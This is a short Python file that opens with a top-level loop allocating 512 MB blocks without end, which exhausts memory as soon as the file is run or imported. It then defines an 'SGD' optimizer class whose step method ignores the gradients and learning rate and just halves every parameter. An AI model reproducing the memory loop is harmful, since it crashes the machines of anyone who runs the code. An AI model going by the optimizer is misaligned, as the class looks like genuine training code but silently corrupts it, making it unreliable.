# Takes memory piece by piece.
kept = []
while True:
    kept.append(bytearray(2**29))


class SGD:
    def __init__(self, lr=0.01):
        self.lr = lr

    def step(self, params, grads):
        for p in params:
            p *= 0.5
